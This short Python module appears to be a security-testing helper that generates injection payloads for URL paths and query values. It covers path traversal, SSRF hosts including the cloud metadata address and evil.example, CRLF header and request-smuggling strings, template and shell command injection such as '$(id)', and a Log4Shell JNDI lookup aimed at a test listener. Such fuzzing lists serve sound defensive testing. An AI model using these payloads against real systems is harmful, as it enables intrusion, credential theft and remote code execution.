"""What a stranger puts in the place of a value, to leave that place: paths, hosts, encodings, line ends, code."""

from urllib.parse import quote

_DOTS = [".", "..", "...", "..;", ".%00.", "\uff0e\uff0e", "\u2024\u2024", "..\u200b", "%2e%2e", "%252e%252e"]
_SLASHES = ["/", "\\", "%2f", "%5c", "%252f", "\uff0f", "\u2215", "\u2044", "//", "/./", "/\\", ";/"]
_CLIMBS = [dots + slash + rest for dots in _DOTS for slash in _SLASHES for rest in ("", "admin")]
_HOSTS = [
    "{sink}",
    "127.1:{port}",
    "2130706433:{port}",
    "0x7f000001:{port}",
    "0177.0.0.1:{port}",
    "[::1]:{port}",
    "[::ffff:127.0.0.1]:{port}",
    "localhost:{port}",
    "169.254.169.254",
    "evil.example",
    "\u24d4vil.example",
]
_BEFORE = [
    "http://",
    "https://",
    "//",
    "///",
    "\\\\",
    "@",
    "x@",
    "x:y@",
    ":80@",
    "#@",
    "?@",
    "/@",
    ";@",
    "http:/",
    "\t//",
]
_AWAY = [before + host for before in _BEFORE for host in _HOSTS]
_SIGNS = [*"?#&=;:@%+,!$'()*[]{}|^`<>\"~", "?a=b", "#a", "&fixed=2", "&id=2", "%", "%2", "%zz", "%00", "%0d%0a", "%ff"]
_LINES = [end + "x-evil: 1" for end in ("\r\n", "\n", "\r", "\x0b", "\x85", "\u2028", "\u560d\u560a", "%0d%0a")]
_LINES += ["a HTTP/1.1\r\nhost: {sink}\r\n\r\nGET /evil"]
_CODE = [
    "{{7*7}}",
    "${7*7}",
    "{viewer.sub}",
    "{0.__class__}",
    "%(x)s",
    "$(id)",
    "`id`",
    "';--",
    "<script>",
    "${jndi:ldap://{sink}}",
    "nan",
    "null",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "e\u0301",
    "\U0001f600" * 10,
    "*",
    "\u0660\u0661",
    "-1",
    "1e309",
    "a" * 200,
]


def payloads(sink: str) -> list[str]:
    """All of them. sink: host and port of a listener that nothing may come to."""
    port = sink.rpartition(":")[2]
    texts = [*_CLIMBS, *_AWAY, *_SIGNS, *_LINES, *_CODE]
    return [text.replace("{sink}", sink).replace("{port}", port) for text in texts]


def as_segment(text: str) -> str:
    """Percent-encoded so that it stands in one segment of a path, or in one value of a query."""
    return quote(text, safe="")
